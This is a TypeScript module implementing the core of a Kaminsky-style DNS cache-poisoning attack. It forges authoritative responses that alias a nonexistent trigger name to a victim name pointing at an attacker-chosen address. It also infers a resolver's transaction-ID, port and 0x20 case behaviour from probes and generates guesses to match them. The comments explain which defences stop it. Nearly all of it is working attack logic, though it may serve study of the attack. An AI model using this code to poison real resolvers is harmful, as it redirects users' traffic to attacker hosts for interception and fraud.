// Forged responses for a Kaminsky-style attack (2008): the resolver was made to ask the real
// server for a name that does not exist (`trigger`); each forged response claims, with AA set,
// that it is an alias of the victim name, whose address is the attacker's. In bailiwick of the
// target zone, so bailiwick checking does not stop it; only an unguessable query (ID, port,
// 0x20) or a signature (DNSSEC) does. Pure: guesses in, packets out.
import dnsPacket from 'dns-packet';

export interface ForgeSpec { trigger: string; victim: string; fake: string; ttl: number }

export function forgedResponse(spec: ForgeSpec, id: number): Buffer {
  return dnsPacket.encode({
    type: 'response',
    id,
    flags: dnsPacket.AUTHORITATIVE_ANSWER,
    questions: [{ name: spec.trigger, type: 'A', class: 'IN' }],
    answers: [
      { name: spec.trigger, type: 'CNAME', class: 'IN', ttl: spec.ttl, data: spec.victim },
      { name: spec.victim, type: 'A', class: 'IN', ttl: spec.ttl, data: spec.fake },
    ],
  });
}

/** What the attacker knows of the resolver from two probes through its own zone. */
export interface Knowledge { lastId: number; lastPort: number; sequentialIds: boolean; fixedPort: boolean; mixedCase: boolean }

type Probe = { id: number; port: number; name?: string };

export function learn(first: Probe, second: Probe): Knowledge {
  const step = (second.id - first.id + 0x10000) & 0xffff;
  // 0x20 shows in the probes: a name asked in lower case arrives with upper-case letters.
  const mixed = (p: Probe) => p.name !== undefined && p.name !== p.name.toLowerCase();
  return { lastId: second.id, lastPort: second.port, sequentialIds: step > 0 && step <= 64, fixedPort: first.port === second.port, mixedCase: mixed(first) || mixed(second) };
}

/** The trigger name as the k-th forged packet writes it: its letters' case guessed at random when the resolver uses 0x20. */
export function guessCase(name: string, know: Knowledge, random: () => number): string {
  return know.mixedCase ? name.replace(/[a-z]/gi, (c) => (random() < 0.5 ? c.toLowerCase() : c.toUpperCase())) : name;
}

/** The k-th guess of (ID, port): the IDs after the last one seen when they are sequential, else random; the seen port when it is fixed, else random. */
export function guess(k: number, know: Knowledge, random: () => number, window = 32): { id: number; port: number } {
  const id = know.sequentialIds ? (know.lastId + 1 + (k % window)) & 0xffff : Math.floor(random() * 0x10000);
  const port = know.fixedPort ? know.lastPort : 1024 + Math.floor(random() * (65536 - 1024));
  return { id, port };
}
